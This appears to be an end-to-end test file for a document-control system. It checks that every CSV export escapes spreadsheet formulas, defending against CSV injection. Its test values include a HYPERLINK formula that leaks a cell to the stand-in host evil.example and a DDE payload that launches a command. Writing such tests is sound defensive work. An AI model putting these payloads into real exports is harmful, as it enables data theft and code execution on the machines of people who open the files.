"""Every CSV Procedura produces (register, acknowledgement reports, audit trail) shows a
cell that a spreadsheet would run as a formula as plain text (OWASP: CSV injection)."""
from __future__ import annotations

import csv
import io
import uuid

from procedura_cli.docgen import docx_bytes
from tests.e2e.test_document_control import approve_fully
from tests.e2e.test_walking_skeleton import BODY, DOCX, register, unique_code
from tests.testenv import eventually

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Deschide")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
FUNCTION = "-2+3"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.text[:300]
    assert response.headers["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_formulas_in_titles_names_and_functions_are_plain_text_in_every_csv(
        login, environment):
    from services.common.identity import IdentifiedClusterRpcProxy as ClusterRpcProxy

    department = f"F{uuid.uuid4().hex[:6].upper()}"
    username = f"formula.{uuid.uuid4().hex[:6]}"
    with ClusterRpcProxy(environment.config(), timeout=30) as rpc:
        rpc.documents.load_organisation({
            "departments": [{"code": department, "name": "Compartiment de test"}],
            "users": [{"username": username, "full_name": NAME, "department": department,
                       "function": FUNCTION, "roles": ["reader"], "password": "parola-test"}]})
    author, quality = login("ana.popescu"), login("elena.dumitrascu")
    document = register(author, unique_code(), distribution=("DJ", department), title=TITLE)
    version = author.upload(document["id"], "f.docx", docx_bytes("f", BODY), "", DOCX)
    approve_fully(login, version["id"])
    vid = version["id"]

    def reported():
        report = quality.get(f"/api/versions/{vid}/acknowledgements")
        return report if any(p["username"] == username for p in report["people"]) else None
    eventually(reported, timeout=30)

    # the distribution list of the revision: the person's name and function
    rows = rows_of(quality.request("GET", f"/api/versions/{vid}/acknowledgements",
                                   params={"format": "csv"}))
    [row] = [r for r in rows if r[1] == username]
    assert row[0] == "'" + NAME and row[3] == "'" + FUNCTION
    # the department's acknowledgements: the title too
    rows = rows_of(quality.request("GET", "/api/acknowledgements",
                                   params={"department": department, "format": "csv"}))
    [row] = [r for r in rows if r[0] == document["code"]]
    assert row[1] == "'" + TITLE and row[4] == "'" + NAME and row[7] == "'" + FUNCTION
    # the register of procedures
    rows = rows_of(quality.request("GET", "/api/register", params={"format": "csv"}))
    [row] = [r for r in rows if r[1] == document["code"]]
    assert row[2] == "'" + TITLE
    # the audit trail: nothing starts with a formula, and the plain cells are untouched
    rows = rows_of(quality.request("GET", "/api/audit",
                                   params={"document_id": document["id"], "format": "csv"}))
    assert rows[0] == ["id", "at", "actor", "action", "document_id", "version_id", "details",
                       "hash"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows for cell in row)
    # the API itself keeps the text as it was typed
    assert quality.get(f"/api/documents/{document['id']}")["title"] == TITLE
